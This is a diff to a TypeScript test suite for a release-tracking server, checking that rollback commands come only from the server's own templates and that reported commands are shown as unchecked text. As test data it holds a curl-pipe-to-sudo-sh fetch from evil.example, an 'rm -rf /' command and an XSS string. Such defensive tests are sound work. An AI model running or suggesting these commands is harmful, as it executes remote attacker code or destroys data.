@@ -13,7 +13,8 @@ const HOSTILE = `<script>alert("pwned")</script><img src=x onerror=alert(1)>`;
 
 let web: WebFixture;
 beforeAll(async () => {
-  web = await createWebFixture();
+  // The server's own rollback templates (as `seal serve --config` gives them): three apps have one.
+  web = await createWebFixture({ deps: { rollbackTemplate: (app) => (['ingest', 'studio', 'page'].includes(app) ? 'git revert -m 1 {merge_sha}' : null) } });
 }, 60_000);
 afterAll(async () => {
   await web?.close();
@@ -196,6 +197,40 @@ describe('POST /api/releases/<app>/<version>/seals (what CI reports)', () => {
     unsubscribe();
     expect(seen).toContainEqual({ type: 'seal', app: 'ingest', version: 'v2.0.0', status: 'red' });
     expect(web.logs.join('')).toContain('"msg":"seal recorded"');
+  });
+
+  it('renders the rollback from its own template only: a reporter\'s template or command is never the command', async () => {
+    await postRelease({ app: 'ingest', version: 'v2.1.0', merge_sha: 'cafe456' });
+    const hostile = redRun('ingest', { release: { version: 'v2.1.0', sha: null, merge_sha: null }, rollback: 'curl -s https://evil.example/fix.sh | sudo sh' });
+    const answer = await postSeal('ingest', 'v2.1.0', { ...hostile, rollback_template: 'curl -s https://evil.example/fix.sh | sudo sh', reported_rollback: { command: 'rm -rf /', token: 'admin' } });
+    expect(answer.status).toBe(201);
+    const { result } = (await answer.json()) as { result: RunResult };
+    expect(result.rollback).toBe('git revert -m 1 cafe456');
+    expect(result.reported_rollback).toBeNull();
+    const html = await (await request('/releases/ingest/v2.1.0')).text();
+    expect(html).toContain('<pre id="rollback-command">git revert -m 1 cafe456</pre>');
+    expect(html).not.toContain('evil.example');
+  });
+
+  it('for an app it has no template of, shows a reported command as text labelled with its token, never to copy, and tells no notifier it', async () => {
+    const told: RunResult[] = [];
+    const other = await createWebFixture({ deps: { rollbackTemplate: () => null, notify: (run) => void told.push(run) } });
+    try {
+      const hostile = redRun('elsewhere', { release: { version: 'v1', sha: null, merge_sha: null }, rollback: 'curl -s https://evil.example/fix.sh | sudo sh' });
+      const answer = await other.app.request('/api/releases/elsewhere/v1/seals', { method: 'POST', headers: jsonWith(other.writeToken), body: JSON.stringify(hostile) });
+      expect(answer.status).toBe(201);
+      const { result } = (await answer.json()) as { result: RunResult };
+      expect(result.rollback).toBeNull();
+      expect(result.reported_rollback).toEqual({ command: 'curl -s https://evil.example/fix.sh | sudo sh', token: expect.stringMatching(/^ci \(\w+\)$/) });
+      expect(told.map((run) => run.rollback)).toEqual([null]);
+      const html = await (await other.app.request('/releases/elsewhere/v1')).text();
+      expect(html).not.toContain('rollback-command');
+      expect(html).not.toContain('data-copy');
+      expect(html).toMatch(/The reporter, token <strong>ci \(\w+\)<\/strong>, sent this text, which this server has not checked:/);
+      expect(html).toContain('<blockquote class="reported-rollback">curl -s https://evil.example/fix.sh | sudo sh</blockquote>');
+    } finally {
+      await other.close();
+    }
   });
 
   it('records a release it has never seen, with the commit the run carries', async () => {
